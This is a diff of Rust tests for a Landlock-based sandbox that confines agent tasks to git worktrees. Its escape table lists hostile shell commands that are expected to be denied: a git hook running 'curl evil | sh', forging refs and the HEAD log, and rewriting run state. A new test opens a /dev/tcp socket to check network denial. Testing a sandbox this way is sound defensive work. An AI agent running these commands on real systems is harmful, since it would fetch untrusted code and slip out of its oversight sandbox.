@@ -52,7 +52,7 @@ impl Task {
             common.join("worktrees/run1-task-1-1"),
             common.join("objects"),
             common.join("refs/heads"),
-            common.join("logs"),
+            common.join("logs/refs/heads"),
             common.join("spectacular/tmp/run1-task-1-1"),
         ]
     }
@@ -122,6 +122,7 @@ const ESCAPES: &[(&str, &str, &str)] = &[
     ("add a hook", r#"echo 'curl evil | sh' > "$COMMON/hooks/x""#, DENIED),
     ("edit info/exclude", r#"echo '*' >> "$COMMON/info/exclude""#, DENIED),
     ("create packed-refs", r#"echo '0000 refs/heads/main' >> "$COMMON/packed-refs""#, DENIED),
+    ("forge the main checkout's HEAD log", r#"echo forged >> "$COMMON/logs/HEAD""#, DENIED),
     ("rewrite the run state", r#"echo '{}' > "$STATE""#, DENIED),
     ("create a file in the run state", r#"touch "$COMMON/spectacular/runs/run1/evil""#, DENIED),
     ("move a worktree file out", r#"mv "$WT/README.md" "$MAIN/moved.md""#, DENIED),
@@ -432,6 +433,24 @@ fn output_already_redirected_to_a_file_outside_can_be_reopened_but_not_its_folde
     let text = std::fs::read_to_string(&log).unwrap();
     assert!(text.starts_with("to-log\n"), "{text}");
     assert!(text.contains(&format!("agent.log.beside: {DENIED}")), "{text}");
+}
+
+#[test]
+fn network_deny_refuses_tcp_connections_that_are_allowed_without_it() {
+    let task = Task::new();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port().to_string();
+    let connect = r#"exec 3<>"/dev/tcp/127.0.0.1/$PORT" && echo connected"#;
+    let open = task.run(&[], &["bash", "-c", connect], &[("PORT", &port)]);
+    assert_eq!(open.code(), 0, "without network = \"deny\" the connection works: {}", open.stderr());
+    let rules = task.write_rules("[sandbox]\nnetwork = \"deny\"\n");
+    let args = ["--rules", rules.to_str().unwrap()];
+    let closed = task.run(&args, &["bash", "-c", connect], &[("PORT", &port)]);
+    assert_ne!(closed.code(), 0, "{}", closed.stdout());
+    assert!(closed.stderr().contains(DENIED), "{}", closed.stderr());
+    let old = task.run(&args, &["true"], &[("WT_SANDBOX_ABI", "3")]);
+    assert_eq!(old.code(), 3, "a kernel without TCP rules refuses: {}", old.stderr());
+    assert!(old.stderr().contains("needs Landlock ABI 4"), "{}", old.stderr());
 }
 
 #[test]
